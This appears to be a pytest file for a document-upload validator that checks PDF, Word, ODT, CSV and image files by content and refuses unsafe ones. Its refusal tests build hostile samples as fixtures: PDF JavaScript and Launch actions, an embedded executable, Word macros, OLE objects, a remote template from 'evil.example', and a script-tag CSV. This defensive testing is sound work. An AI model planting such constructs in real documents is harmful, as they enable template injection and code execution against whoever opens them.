"""Documents are known by what is in them, and what runs or hides something is refused."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from kit.documents import FORMATS, accepted
from kit.errors import Refused

WORD = FORMATS["docx"].content_type
TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{WORD}.main+xml"/></Types>'


def pdf(change: Callable[[PdfWriter], object] = lambda _writer: None) -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(width=200, height=200)
    change(writer)
    writer.write(out)
    return out.getvalue()


def parts(**more: str) -> bytes:
    """A ZIP file; underscores stand for slashes, two of them for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, text in more.items():
            made.writestr(name.replace("__", ".").replace("_", "/"), text)
    return out.getvalue()


def word(*, types: str = TYPES, **more: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("[Content_Types].xml", types)
        made.writestr("word/document.xml", "<w/>")
        for name, text in more.items():
            made.writestr(name.replace("__", ".").replace("_", "/"), text)
    return out.getvalue()


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (3000, 1000), "#557755").save(out, kind)
    return out.getvalue()


def odt(**more: str) -> bytes:
    return parts(mimetype=FORMATS["odt"].content_type, content__xml="<o/>", **more)


@pytest.mark.parametrize(
    ("content", "name", "key"),
    [
        (pdf(), "plan.pdf", "pdf"),
        (pdf(), "called-otherwise.docx", "pdf"),
        (word(), "plan.docx", "docx"),
        (odt(), "plan.odt", "odt"),
        ("Straße;Zahl\nMarkt;3\n".encode(), "count.csv", "csv"),
        ("\ufeffa,b\n1,2\n".encode(), "count.CSV", "csv"),
        (picture("PNG"), "map.png", "webp"),
    ],
)
def test_what_others_can_open_is_accepted_by_its_content(content: bytes, name: str, key: str) -> None:
    found = accepted(io.BytesIO(content), name=name)
    assert found.format.key == key
    if key not in ("csv", "webp"):
        assert found.content == content


def test_pictures_are_made_anew_and_tables_become_utf8() -> None:
    made = accepted(io.BytesIO(picture("JPEG")), name="map.jpg")
    with Image.open(io.BytesIO(made.content)) as image:
        assert (image.format, image.width) == ("WEBP", 2400)
    table = accepted(io.BytesIO("Straße;Zahl\nMarkt;3\n".encode("cp1252")), name="count.csv")
    assert table.content.decode() == "Straße;Zahl\nMarkt;3\n"


def _script(writer: PdfWriter) -> None:
    action = {
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.alert(1)"),
    }
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def _launch(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("x")}
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _launch_apart(writer: PdfWriter) -> None:
    action = DictionaryObject({NameObject("/S"): writer._add_object(NameObject("/Launch"))})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _attach(writer: PdfWriter) -> None:
    writer.add_attachment("tool.exe", b"MZ")


def _lock(writer: PdfWriter) -> None:
    writer.encrypt("secret", algorithm="RC4-128")


@pytest.mark.parametrize("change", [_script, _launch, _launch_apart, _attach, _lock])
def test_a_pdf_that_runs_hides_or_locks_something_is_refused(change: Callable[[PdfWriter], object]) -> None:
    with pytest.raises(Refused) as refused:
        accepted(io.BytesIO(pdf(change)), name="plan.pdf", field="file")
    assert refused.value.field == "file"
    assert "PDF" in str(refused.value)


MACROS = TYPES.replace(f"{WORD}.main", "application/vnd.ms-word.document.macroEnabled.main")
REMOTE = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (word(word_vbaProject__bin="x"), "plan.docx"),
        (word(types=MACROS), "plan.docx"),
        (word(word_embeddings_oleObject1__bin="x"), "plan.docx"),
        (word(word__rels="", **{"word_" + "_rels_settings__xml__rels": REMOTE}), "plan.docx"),
        (odt(Basic_Standard_Module1__xml="x"), "plan.odt"),
        (parts(readme__txt="just a ZIP file"), "plan.docx"),
        (b"PK\x03\x04broken", "plan.docx"),
        (b"%PDF-1.7 nothing more", "plan.pdf"),
        (b"\xd0\xcf\x11\xe0 the old format of Office", "plan.doc"),
        (b"MZ\x90", "plan.pdf"),
        (b"<script>alert(1)</script>,b", "count.csv"),
        (b"one column\n1\n", "count.csv"),
        (b"a,b\x00\n", "count.csv"),
        (b"", "count.csv"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "map.svg"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "map.png"),
    ],
)
def test_what_could_run_or_cannot_be_read_is_refused(content: bytes, name: str) -> None:
    with pytest.raises(Refused) as refused:
        accepted(io.BytesIO(content), name=name, field="file")
    assert refused.value.field == "file"


def test_a_file_that_is_too_large_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kit.documents.MOST_BYTES", 100)
    with pytest.raises(Refused, match="20 MB"):
        accepted(io.BytesIO(pdf()), name="plan.pdf")
    monkeypatch.undo()
    monkeypatch.setattr("kit.documents.MOST_UNFOLDED", 3)
    with pytest.raises(Refused):
        accepted(io.BytesIO(word()), name="plan.docx")
